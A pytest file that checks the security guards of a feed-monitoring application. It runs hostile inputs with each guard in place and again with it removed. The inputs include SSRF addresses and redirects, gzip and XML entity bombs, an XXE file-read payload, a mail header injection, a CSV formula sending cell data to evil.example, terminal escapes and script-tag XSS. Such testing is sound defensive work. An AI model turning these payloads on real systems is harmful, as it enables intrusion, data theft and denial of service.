"""Each guard against hostile input holds, and without it the harm would be done.

A case tries to do harm and says whether it was done. It is run twice: as the program
is, where no harm may be done, and with the guard taken out, where it must be: a case
that could not do harm would prove nothing.
"""

from __future__ import annotations

import csv
import gzip
import http.server
import io
import os
import socket
import stat
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from xml import sax

import pytest

from listener import logs
from listener.api import SourceError, Window, from_epoch
from listener.cli import configuring, output
from listener.cli.main import run
from listener.logs import configure, event
from listener.query.build import build_query
from listener.store import Store
from output.samples import UNTIL, make_episode, make_row, make_trend
from reports import message, render
from reports.digest import BrandSection
from reports.message import eml_bytes
from reports.page import PageData, render_page
from reports.render import render_alert
from servers.web import Answer, Request, SimulatedServer
from sources import rss_entries
from sources.adapter import BoundedAdapter
from sources.adapter import Limits as AdapterLimits
from sources.rss import RssOptions, RssSource
from sources.web import Answer as SourceAnswer
from sources.web import Client, Limits, client, transport

Patch = pytest.MonkeyPatch
TEMPLATES = render.templates


@dataclass(frozen=True, kw_only=True)
class Case:
    """`harm` tries, in a folder of its own, and says whether it did; `remove` takes the guard out."""

    name: str
    harm: Callable[[Patch, Path], bool]
    remove: Callable[[Patch], None]


# Addresses that are not of the public internet


class Inner(SimulatedServer):
    """A service of the private network: a feed, and whatever is asked of it."""

    def route(self, request: Request) -> Answer:
        return Answer.text("<rss><channel><item><title>acme</title><guid>1</guid></item></channel></rss>")


@contextmanager
def resolving(patch: Patch, **names: list[str]) -> Iterator[None]:
    """Let names (underscores for dots) lead to addresses: one after the other, the last for ever."""
    real = socket.getaddrinfo
    left = {name.replace("_", "."): list(addresses) for name, addresses in names.items()}

    def resolve(host: object, port: int, *rest: object, **more: object) -> object:
        told = left.get(str(host))
        if told is None:
            return real(host, port, *rest, **more)  # type: ignore[arg-type]
        address = told.pop(0) if len(told) > 1 else told[0]
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    patch.setattr(socket, "getaddrinfo", resolve)
    yield


def feed_at(host: str) -> Callable[[Patch, Path], bool]:
    """Return a case that reads a feed at a host and port of the private network."""

    def harm(patch: Patch, _folder: Path) -> bool:
        with (
            Inner() as server,
            resolving(patch, inner_example=["127.0.0.1"], rebind_example=["93.184.215.14", "127.0.0.1"]),
        ):
            url = f"http://{host}:{server.url.rpartition(':')[2]}/feed"
            source = RssSource(RssOptions(feeds=(url,)))
            (resource,) = source.plan([build_query(brand="Acme", keywords=["acme"])])
            with suppress(SourceError):
                source.fetch(resource, Window(since=from_epoch(0), until=from_epoch(9)), None)
            source.close()
            return bool(server.requests)

    return harm


def link_to(host: str) -> Callable[[Patch, Path], bool]:
    """Return a case that asks a client which trusts nothing for an address of this machine itself."""

    def harm(_patch: Patch, _folder: Path) -> bool:
        with Inner() as server, Client("acme") as asking:
            with suppress(SourceError):
                asking.get_bytes(f"http://{host}:{server.url.rpartition(':')[2]}/")
            return bool(server.requests)

    return harm


def without_address_checks(patch: Patch) -> None:
    patch.setattr(client, "is_public", lambda _: True)
    patch.setattr(client, "is_loopback", lambda _: False)
    patch.setattr(transport, "is_public", lambda _: True)


def without_the_look_at_the_peer(patch: Patch) -> None:
    patch.setattr(transport, "is_public", lambda _: True)


def redirect_inside(patch: Patch, folder: Path) -> bool:
    """A public service redirects to one of the private network (127.0.0.2 here, all else being public)."""
    return redirect_to("127.0.0.2", patch, folder)


def redirect_home(patch: Patch, folder: Path) -> bool:
    """A public service redirects to this machine, of which another feed is configured."""
    return redirect_to("127.0.0.2", patch, folder, trusted=("http://127.0.0.1:9",))


def redirect_to(host: str, patch: Patch, _folder: Path, *, trusted: tuple[str, ...] = ()) -> bool:
    real = transport.is_public

    def is_public(address: str) -> bool:
        return True if address == "127.0.0.1" else real(address)

    if client.is_public is real:
        patch.setattr(client, "is_public", is_public)
        patch.setattr(transport, "is_public", is_public)
    asked: list[str] = []

    class Metadata(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    inner = http.server.HTTPServer((host, 0), Metadata)
    threading.Thread(target=inner.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    class Outer(SimulatedServer):
        def route(self, request: Request) -> Answer:
            return Answer(status=302, headers={"Location": f"http://{host}:{inner.server_address[1]}/latest"})

    try:
        with Outer() as outer, resolving(patch, outer_example=["127.0.0.1"]), Client("acme", trusted=trusted) as asking:
            with suppress(SourceError):
                asking.get_bytes(f"http://outer.example:{outer.url.rpartition(':')[2]}/")
            assert outer.requests
    finally:
        inner.shutdown()
        inner.server_close()
    return bool(asked)


# Sizes


def body_of(body: bytes, headers: dict[str, str]) -> type[SimulatedServer]:
    class Large(SimulatedServer):
        def route(self, request: Request) -> Answer:
            return Answer(body=body, headers=headers)

    return Large


LARGE = b" " * (11 << 20)
BOMB = gzip.compress(LARGE)


def swallow(body: bytes, headers: dict[str, str]) -> Callable[[Patch, Path], bool]:
    """Return a case that says whether an answer of many megabytes was read whole."""

    def harm(_patch: Patch, _folder: Path) -> bool:
        with body_of(body, headers)() as server, Client("acme", trusted=[server.url]) as asking:
            with suppress(SourceError):
                return len(asking.get_bytes(server.url).body) == len(LARGE)
            return False

    return harm


def swallow_by_adapter(body: bytes, headers: dict[str, str]) -> Callable[[Patch, Path], bool]:
    def harm(_patch: Patch, _folder: Path) -> bool:
        import requests

        with body_of(body, headers)() as server, requests.Session() as session:
            BoundedAdapter("X", judge=lambda _: None, limits=AdapterLimits(body_bytes=8 << 20)).serve(
                session, "http://"
            )
            with suppress(SourceError):
                return len(session.get(server.url).content) == len(LARGE)
            return False

    return harm


def without_size_limit(patch: Patch) -> None:
    real_init = Client.__init__

    def made(self: Client, *arguments: object, **options: object) -> None:
        real_init(self, *arguments, **{**options, "limits": Limits(body_bytes=1 << 30)})  # type: ignore[arg-type]

    patch.setattr(Client, "__init__", made)


def without_adapter_limit(patch: Patch) -> None:
    real_init = BoundedAdapter.__init__

    def made(self: BoundedAdapter, *arguments: object, **options: object) -> None:
        limits = AdapterLimits(body_bytes=1 << 30)
        real_init(self, *arguments, **{**options, "limits": limits})  # type: ignore[arg-type]

    patch.setattr(BoundedAdapter, "__init__", made)


def endless_redirects(_patch: Patch, _folder: Path) -> bool:
    class Loop(SimulatedServer):
        def route(self, request: Request) -> Answer:
            return Answer(status=302, headers={"Location": f"/{len(self.requests)}"})

    with Loop() as server, Client("acme", trusted=[server.url]) as asking:
        with suppress(SourceError):
            asking.get_bytes(server.url)
        return len(server.requests) > 6


def without_redirect_limit(patch: Patch) -> None:
    real_init = Client.__init__

    def made(self: Client, *arguments: object, **options: object) -> None:
        real_init(self, *arguments, **{**options, "limits": Limits(redirects=20)})  # type: ignore[arg-type]

    patch.setattr(Client, "__init__", made)


# Feeds that grow


def feed_of(document_type: str, text: str) -> bytes:
    item = f"<item><title>acme</title><guid>1</guid><description>{text}</description></item>"
    return f'<?xml version="1.0"?>{document_type}<rss version="2.0"><channel>{item}</channel></rss>'.encode()


def read_feed(body: bytes) -> str:
    answer = SourceAnswer(
        status=200, headers={"content-type": "application/rss+xml"}, body=body, url="https://feeds.example/x"
    )
    with suppress(SourceError):
        return "".join(getattr(entry, "text", "") for entry in rss_entries.read_entries(answer))
    return ""


LAUGHS = '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'
QUADRATIC = f'<!DOCTYPE r [<!ENTITY a "{"long" * 1_000}">]>'


def growing(document_type: str, text: str) -> Callable[[Patch, Path], bool]:
    def harm(_patch: Patch, _folder: Path) -> bool:
        grown = read_feed(feed_of(document_type, text))
        return max(grown.count("lol"), grown.count("long")) > 20

    return harm


def without_entity_check(patch: Patch) -> None:
    patch.setattr(rss_entries, "declares_entities_of_entities", lambda _: False)


def steal_by_entity(_patch: Patch, folder: Path) -> bool:
    (folder / "secret").write_text("zyxwolfe", encoding="utf-8")
    entity = f'<!DOCTYPE r [<!ENTITY a SYSTEM "{(folder / "secret").as_uri()}">]>'
    return "zyxwolfe" in read_feed(feed_of(entity, "&a;"))


def with_a_parser_that_loads_what_is_named(patch: Patch) -> None:
    """Stand a parser with external entities switched on in the place of the one that has them off."""

    def read(answer: SourceAnswer, **_: object) -> tuple[object, ...]:
        words: list[str] = []

        class Handler(sax.ContentHandler):
            def characters(self, content: str) -> None:
                words.append(content)

        parser = sax.make_parser()  # noqa: S317 - what is shown is the harm
        parser.setFeature(sax.handler.feature_external_ges, True)
        parser.setContentHandler(Handler())
        parser.parse(io.BytesIO(answer.body))
        return (make_row(1, "".join(words)),)

    patch.setattr(rss_entries, "read_entries", read)


# What leaves the program


def second_header(_patch: Patch, _folder: Path) -> bool:
    subject = "Acme\r\nBcc: all@example.org\r\n\r\nhello"
    sent = render_alert(make_episode(), sentence="x")
    made = type(sent)(key="k", kind="alert", subject=subject, text="t")
    try:
        data = eml_bytes(made, "listener@example.org", ["team@example.org"], date=UNTIL)
    except ValueError:  # the mail library's own guard: nothing is sent at all, which is harm enough
        return True
    return b"\nBcc:" in data.partition(b"\r\n\r\n")[0]


def formula(_patch: Patch, _folder: Path) -> bool:
    out = io.StringIO()
    output.emit_rows([{"text": '=HYPERLINK("https://evil.example?"&A1)'}], ("text",), "csv", stream=out)
    return list(csv.reader(io.StringIO(out.getvalue())))[1][0].startswith("=")


def escape_in_table(_patch: Patch, _folder: Path) -> bool:
    out = io.StringIO()
    output.emit_rows([{"text": "\x1b[2Jacme\x9b31m\u202e"}], ("text",), "table", stream=out)
    return any(sign in out.getvalue() for sign in "\x1b\x9b\u202e")


def escape_in_log(_patch: Patch, _folder: Path) -> bool:
    import logging

    out = io.StringIO()
    configure("text", "info", out)
    event(logging.getLogger("listener.safety"), "page saved", lane="\x1b[2Jstopped\x9b31m")
    return any(sign in out.getvalue() for sign in "\x1b\x9b")


SCRIPT = "</p><script>alert(1)</script>"


def script_in_mail(_patch: Patch, _folder: Path) -> bool:
    sent = render_alert(
        make_episode(terms=(SCRIPT,)), sentence=SCRIPT, mentions=[make_row(1, SCRIPT, author_name=SCRIPT)]
    )
    return "<script>alert" in (sent.html or "")


def script_in_page(_patch: Patch, _folder: Path) -> bool:
    section = BrandSection(brand=SCRIPT, kind="own", trend=make_trend(SCRIPT, days=1, by="hour"))
    data = PageData(
        section=section,
        since=UNTIL - timedelta(days=1),
        until=UNTIL,
        time_zone="UTC",
        made_at=UNTIL,
        trend=section.trend,
        mentions=(make_row(1, SCRIPT, author_name=SCRIPT),),
    )
    return "<script>alert" in render_page(data)


def without_escaping(patch: Patch) -> None:
    TEMPLATES.cache_clear()
    environment = TEMPLATES()
    environment.autoescape = False
    environment.cache.clear()  # type: ignore[union-attr]
    patch.setattr(render, "templates", lambda: environment)
    patch.setattr("reports.page.templates", lambda: environment)


def script_as_link(_patch: Patch, _folder: Path) -> bool:
    sent = render_alert(make_episode(), sentence="x", mentions=[make_row(1, "acme", url="javascript:alert(1)")])
    return 'href="javascript:' in (sent.html or "")


# Files


def modes_of(folder: Path) -> set[int]:
    return {stat.S_IMODE(file.stat().st_mode) & 0o077 for file in folder.iterdir()}


@contextmanager
def careless_umask() -> Iterator[None]:
    before = os.umask(0)
    try:
        yield
    finally:
        os.umask(before)


def open_store_files(_patch: Patch, folder: Path) -> bool:
    with careless_umask(), Store(folder / "listener.db") as store:
        store.register([("Acme", "own")], [], now=UNTIL)
        assert len(list(folder.iterdir())) > 1  # the log beside it too
        return modes_of(folder) != {0}


def open_config(_patch: Patch, folder: Path) -> bool:
    with careless_umask():
        assert run(["init", str(folder / "config.toml"), "--brand", "Acme"]) == 0
        return modes_of(folder) != {0}


def with_files_for_everybody(patch: Patch) -> None:
    real = os.open

    def opened(path: str, flags: int, mode: int = 0o777, **more: int) -> int:
        return real(path, flags, mode | 0o066 if flags & os.O_CREAT else mode, **more)

    patch.setattr(os, "open", opened)
    patch.setattr(configuring.os, "open", opened)
    patch.setattr(Path, "chmod", lambda *_, **__: None)


def _drop(target: object, name: str) -> Callable[[Patch], None]:
    """Return what lets a text pass through a guard as it is."""
    return lambda patch: patch.setattr(target, name, lambda text, *_, **__: text)


CASES = (
    *(
        Case(name=f"a feed at {host}", harm=feed_at(host), remove=without_address_checks)
        for host in (
            "2130706433",
            "0177.0.0.1",
            "0x7f000001",
            "127.1",
            "0.0.0.0",
            "[::ffff:127.0.0.1]",
            "inner.example",
        )
    ),
    *(
        Case(name=f"a link to {host}", harm=link_to(host), remove=without_address_checks)
        for host in ("127.0.0.1", "localhost")
    ),
    Case(name="a name that turns private", harm=feed_at("rebind.example"), remove=without_the_look_at_the_peer),
    Case(name="a redirect into the private network", harm=redirect_inside, remove=without_address_checks),
    Case(
        name="a redirect to this machine that is trusted for another feed",
        harm=redirect_home,
        remove=lambda patch: patch.setattr(Client, "_leads_home", lambda *_: False),
    ),
    Case(name="redirects without end", harm=endless_redirects, remove=without_redirect_limit),
    Case(name="a large answer", harm=swallow(LARGE, {}), remove=without_size_limit),
    Case(name="a gzip bomb", harm=swallow(BOMB, {"Content-Encoding": "gzip"}), remove=without_size_limit),
    Case(name="a large answer to a client library", harm=swallow_by_adapter(LARGE, {}), remove=without_adapter_limit),
    Case(
        name="a gzip bomb for a client library",
        harm=swallow_by_adapter(BOMB, {"Content-Encoding": "gzip"}),
        remove=without_adapter_limit,
    ),
    Case(name="entities of entities", harm=growing(LAUGHS, "&c;&c;"), remove=without_entity_check),
    Case(name="one long entity many times", harm=growing(QUADRATIC, "&a;"), remove=without_entity_check),
    Case(name="an entity that names a file", harm=steal_by_entity, remove=with_a_parser_that_loads_what_is_named),
    Case(name="a header in a subject", harm=second_header, remove=_drop(message, "clean_line")),
    Case(name="a formula in CSV", harm=formula, remove=_drop(output, "_csv_text")),
    Case(name="an escape in a table", harm=escape_in_table, remove=_drop(output, "neutralise")),
    Case(name="an escape in the log", harm=escape_in_log, remove=_drop(logs, "_one_line")),
    Case(name="a script in a mail", harm=script_in_mail, remove=without_escaping),
    Case(name="a script in the page", harm=script_in_page, remove=without_escaping),
    Case(name="a script as a link", harm=script_as_link, remove=_drop(render, "web_link")),
    Case(name="a store others can read", harm=open_store_files, remove=with_files_for_everybody),
    Case(name="a configuration others can read", harm=open_config, remove=with_files_for_everybody),
)


@pytest.fixture(autouse=True)
def _as_before() -> Iterator[None]:
    yield
    TEMPLATES.cache_clear()


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_the_guard_holds(case: Case, monkeypatch: Patch, tmp_path: Path) -> None:
    assert not case.harm(monkeypatch, tmp_path)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_without_the_guard_the_harm_is_done(case: Case, monkeypatch: Patch, tmp_path: Path) -> None:
    case.remove(monkeypatch)
    assert case.harm(monkeypatch, tmp_path)


def test_a_private_feed_is_read_where_the_operator_allows_it() -> None:
    with Inner() as server:
        source = RssSource(RssOptions(feeds=(f"{server.url}/feed",), allow_private=True))
        (resource,) = source.plan([build_query(brand="Acme", keywords=["acme"])])
        source.fetch(resource, Window(since=from_epoch(0), until=from_epoch(9)), None)
        source.close()
        assert server.requests


def test_what_looks_like_a_document_type_inside_an_article_is_no_bomb() -> None:
    quoted = "<![CDATA[" + LAUGHS + "]]>"
    assert not rss_entries.declares_entities_of_entities(feed_of("", quoted))
    assert not rss_entries.declares_entities_of_entities(feed_of('<!DOCTYPE r [<!ENTITY nbsp "&#160;">]>', "a&nbsp;b"))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32"])
@pytest.mark.parametrize("before", ["", "<!-- <rss '\" -->", "<?xml-stylesheet href='x'?>"])
def test_entities_of_entities_are_seen_in_every_encoding_and_behind_anything(encoding: str, before: str) -> None:
    bomb = feed_of(before + LAUGHS, "&c;").decode().encode(encoding)
    assert rss_entries.declares_entities_of_entities(bomb)


def test_looking_for_entities_takes_no_longer_than_reading() -> None:
    began = time.process_time()
    for slow in (
        b"<!---->" * 100_000,
        b"<!DOCTYPE r [" + b"'" * 2_000_001,
        b"<!DOCTYPE" * 500_000,
        b"<!DOCTYPE r [<!--" * 200_000,
    ):
        assert not rss_entries.declares_entities_of_entities(slow)
    assert time.process_time() - began < 60  # a second or two; what looks twice at every sign needs hours
